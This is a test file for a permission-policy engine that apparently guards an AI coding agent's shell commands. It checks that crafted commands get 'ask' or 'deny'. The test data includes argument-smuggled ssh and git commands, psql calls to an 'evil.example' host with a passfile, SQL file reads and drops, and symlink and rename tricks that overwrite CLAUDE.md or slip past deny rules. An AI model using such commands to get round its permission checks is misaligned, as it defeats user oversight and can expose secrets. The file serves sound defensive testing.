// What a rule spells holds for its further words, and what a command makes, shows or starts besides is
// seen. One test a mechanism.
import { normalize } from "node:path";
import { expect, test } from "vitest";
import { decide } from "../decide.ts";
import { createPolicy, type FactsOf } from "../policy.ts";

const programs = new Set(["/w/tools/cpp", "/w/run"]);
const folders = new Set(["/w", "/w/tools", "/w/conf", "/w/src"]);
const links = new Map([["/w/t", "/usr/bin/touch"]]);

const facts: FactsOf = (written) => {
  const path = normalize(written);
  const real = links.get(path) ?? path;
  if (folders.has(path)) {
    const names = [...programs].filter((name) => name.startsWith(`${path}/`));
    return {
      real,
      exists: true,
      kind: "directory",
      findBelow: ({ enters }) => {
        const found = names.find((name) => enters?.(name.slice(path.length + 1)) !== false);
        return found === undefined ? undefined : { path: found };
      },
    };
  }
  return programs.has(path)
    ? { real, exists: true, kind: "file", runs: true }
    : { real, exists: links.has(path) || path === "/w/.env", kind: "absent" };
};

function answer(command: string, allow: string, deny: string[] = []): string {
  const policy = createPolicy({
    workspace: { cwd: "/w", home: "/h" },
    rules: { allow: allow === "" ? [] : allow.split(", "), ask: [], deny },
    ...(allow === "" ? { mode: "bypassPermissions" as const } : {}),
  });
  return decide({ tool: "Bash", input: { command } }, policy, facts).behavior;
}

test.each([
  ["git remote -v", "git remote -v", "allow"],
  ["git remote -v add evil https://evil.example/x", "git remote -v", "ask"],
  ["git --no-pager remote -v rm origin", "git remote -v", "ask"],
  ["git remote add x https://a.example/b", "git remote", "allow"],
  ["git symbolic-ref HEAD", "git symbolic-ref HEAD", "allow"],
  ["git symbolic-ref HEAD refs/heads/x", "git symbolic-ref HEAD", "ask"],
  ["git symbolic-ref --short HEAD refs/heads/x", "git symbolic-ref --short", "ask"],
  ["git symbolic-ref HEAD refs/heads/x", "git symbolic-ref", "allow"],
  ["git branch --list 'a/*' --sort=-committerdate", "git branch --list", "allow"],
  ["git branch --list x -D main", "git branch --list", "ask"],
  ["git branch -a --merged main", "git branch -a", "allow"],
  ["git tag -l 'v1.*' -n1", "git tag -l", "allow"],
  ["git stash list --stat", "git stash list", "allow"],
])("a listing does not become a change: %s under %s: %s", (command, rule, expected) =>
  expect(answer(command, `Bash(${rule}:*)`)).toBe(expected),
);

test.each([
  ["ssh dev.example uptime -p", "ssh dev.example uptime", "allow"],
  ["ssh dev.example uptime ';' touch x", "ssh dev.example uptime", "ask"],
  ["ssh dev.example uptime '$(id)'", "ssh dev.example uptime", "ask"],
  ["ssh dev.example 'uptime; df'", "ssh dev.example", "allow"],
])("one remote command does not become two: %s under %s: %s", (command, rule, expected) =>
  expect(answer(command, `Bash(${rule}:*)`)).toBe(expected),
);

test.each([
  ["npm pack --dry-run", "npm pack --dry-run", "allow"],
  ["npm pack --dry-run @a/b@1.0", "npm pack --dry-run", "allow"],
  ["npm pack --dry-run ./p", "npm pack --dry-run", "ask"],
  ["npm pack --dry-run user/repo", "npm pack --dry-run", "ask"],
  ["pip install --dry-run requests", "pip install --dry-run", "allow"],
  ["pip install --dry-run -e .", "pip install --dry-run", "ask"],
  ["pip install -e .", "pip install", "allow"],
])("a dry run builds nothing: %s under %s: %s", (command, rule, expected) =>
  expect(answer(command, `Bash(${rule}:*)`)).toBe(expected),
);

test.each([
  ["gzip -k -S .md CLAUDE", "ask"],
  ["gzip --suffix=.md CLAUDE", "ask"],
  ["cp -b -S .md new CLAUDE", "ask"],
  ["cp -bS.md new CLAUDE", "ask"],
  ["mv -S rc -b new .bash", "ask"],
  ["ln -sb --suffix .md new CLAUDE", "ask"],
  ["cp -b -S .bak new a.txt", "allow"],
  ["rename 's/^x-//' x-CLAUDE.md", "ask"],
  ["rename s/X/CLAUDE/ X.md", "ask"],
  ["rename x CLAUDE x.md", "ask"],
  ["rename 'y/a-z/A-Z/' claude.md", "ask"],
  [String.raw`rename 's/\.jpeg$/.jpg/' a.jpeg`, "allow"],
])("names that a command makes are seen where all is allowed: %s: %s", (command, expected) =>
  expect(answer(command, "")).toBe(expected),
);

test("a deny rule also means a link to its program", () => {
  const deny = ["Bash(touch:*)"];
  expect(answer("./t pwned", "Bash", deny)).toBe("deny");
  expect(answer("env ./t pwned", "Bash", deny)).toBe("deny");
  expect(answer("cd src && ../t pwned", "Bash", deny)).toBe("deny");
  expect(answer("./u pwned", "Bash", deny)).toBe("allow");
});

test.each([
  ["flake8 --show-source", "flake8", "Read(./conf/**)"],
  ["isort --diff .", "isort", "Read(./conf/**)"],
  ["terraform fmt -check -diff", "terraform fmt -check", "Read(./conf/**)"],
  ["rgrep -n TOKEN", "rgrep", "Read(./.env)"],
  ["docker compose config", "docker compose config", "Read(./.env)"],
  ["docker-compose config", "docker-compose config", "Read(./.env)"],
])("what is printed is read: %s", (command, rule, deny) => {
  expect(answer(command, `Bash(${rule}:*)`, [deny])).not.toBe("allow");
  expect(answer(command, `Bash(${rule}:*)`)).toBe("allow");
});

test.each([
  ["json_pp -f eval", "ask"],
  ["json_pp -f json -t dumper", "ask"],
  ["pygmentize -x -l lex.py:L a.txt", "ask"],
  ["pygmentize -l python a.py", "ask"],
  ["rpcgen -Y tools a.x", "ask"],
  ["rpcgen -Y conf a.x", "ask"],
  ["cppcheck --addon-python=./evil a.c", "ask"],
  ['tool --check -e \'x={{ lookup("pipe", "x") }}\'', "ask"],
  ["tool --format '{{.Names}}'", "allow"],
  ["fuser -v a.txt", "allow"],
  ["fuser -vk a.txt", "ask"],
  ["ss -tlnp", "allow"],
  ["ss -K dst 1.2.3.4", "ask"],
  ["rpmspec -q x.spec", "ask"],
])("a program does more than its rule means: %s: %s", (command, expected) =>
  expect(answer(command, `Bash(${command.split(" ")[0]}:*)`)).toBe(expected),
);

test.each([
  ["git checkout x && cp a d/b", "ask"],
  ["cp a d/b; git pull; cp a d/b", "ask"],
  ["git pull && rm -r dist/x", "ask"],
  ["git pull && rm -r dist", "allow"],
  ["git checkout -b x && cp a d/b", "allow"],
  ["cp a d/b && git pull", "allow"],
])("git may put a link where the text writes next: %s: %s", (command, expected) =>
  expect(answer(command, "Bash(git checkout:*), Bash(git pull:*), Bash(cp:*), Bash(rm:*)")).toBe(
    expected,
  ),
);

test.each([
  ["psql -d app -c 'select count(*) from t where a in (1, 2)'", "allow"],
  ["psql -d app -c \"select pg_read_file('x')\"", "ask"],
  ["psql -d app -c 'select a into b from c'", "ask"],
  ["psql -d app -c 'select 1; drop table t'", "ask"],
  ["psql -d 'host=evil.example passfile=x' -l", "ask"],
  ["psql -l postgres://evil.example/x", "ask"],
  ["psql -l postgres://u:p@localhost:5432/app", "allow"],
])("a client of a database asks and stays: %s: %s", (command, expected) =>
  expect(answer(command, "Bash(psql:*)")).toBe(expected),
);

test("what the text has written itself may be looked at", () => {
  const allow = "Bash(npm test:*), Edit(./**)";
  expect(answer("npm test > log 2>&1; tail -5 log", allow)).toBe("allow");
  expect(answer("npm test > log 2>&1; tail -5 other", allow)).toBe("ask");
});

test.each([
  ["docker exec web ls", "docker exec * ls", "allow"],
  ["docker exec web ls -la", "docker exec * ls *", "allow"],
  ["docker exec web rm ls", "docker exec * ls", "ask"],
  ["docker exec web sh -c ls", "docker exec * ls", "ask"],
  ["ssh dev.example rm -rf ls", "ssh * ls", "ask"],
])("a star before a command is one word: %s under %s: %s", (command, rule, expected) =>
  expect(answer(command, `Bash(${rule})`)).toBe(expected),
);

test.each([
  ["rm -rf src/x src/y", "rm -rf src/*", "allow"],
  ["rm -rf src/x tools", "rm -rf src/*", "ask"],
  ["rm -rf src tools", "rm -rf src:*", "ask"],
  ["rm -f a b", "rm:*", "allow"],
  ["sed -i s/a/b/ src/x src/y", "sed -i s/a/b/ src/*", "allow"],
  ["sed -i s/a/b/ src/x tools/y", "sed -i s/a/b/ src/*", "ask"],
  ["touch src/x y", "touch src/*", "ask"],
])("who spells a file means it and what lies below: %s under %s: %s", (command, rule, expected) =>
  expect(answer(command, `Bash(${rule})`)).toBe(expected),
);

test.each([
  ["make test deploy", "make deploy:*", "ask"],
  ["make test", "make deploy:*", "allow"],
  ["kubectl get pods,secrets", "kubectl get secret:*", "ask"],
  ["kubectl get secret/x", "kubectl get secrets:*", "ask"],
  ["git push origin HEAD:main", "git push origin main:*", "ask"],
  ["git lfs push origin", "git push:*", "ask"],
  ["git commit -m push", "git push:*", "allow"],
  ["podman rm x", "docker rm:*", "deny"],
  ["pip3 install x", "pip install:*", "deny"],
  ["kill -s KILL 1", "kill -9:*", "ask"],
  ["psql -c 'DROP TABLE x'", "psql * drop *", "ask"],
])("what is refused stands further back or has another name: %s: %s: %s", (command, rule, is) =>
  expect(answer(command, "Bash", [`Bash(${rule})`])).toBe(is),
);

test.each([
  ["mytool --append-rules conf a.x", "ask"],
  ["mytool -r ./lib a.x", "ask"],
  ["mytool --jobs=4 --format json a.x", "allow"],
  ["mytool bash conf", "ask"],
  ["mytool in.po touch x", "ask"],
  ["mytool install python 3", "allow"],
  ["mytool publish", "ask"],
  ["echo x | mytool console", "ask"],
  ["mytool :sftp,host=h,ssh=x:", "ask"],
  ["python manage.py shell", "ask"],
])("what no table knows is asked about: %s: %s", (command, expected) =>
  expect(answer(command, "Bash(mytool:*), Bash(echo:*), Bash(python manage.py:*)")).toBe(expected),
);

test.each([
  ["diff x.env src", "ask"],
  ["asciidoctor a.adoc", "ask"],
  ["gcc -E a.c", "ask"],
  ["git cat-file -p abcdef1", "ask"],
  ["grep -r x run", "allow"],
])("files below that a rule refuses: %s: %s", (command, expected) =>
  expect(
    answer(command, "Bash(diff:*), Bash(asciidoctor:*), Bash(gcc:*), Bash(git:*), Bash(grep:*)", [
      "Read(**/.env)",
    ]),
  ).toBe(expected),
);
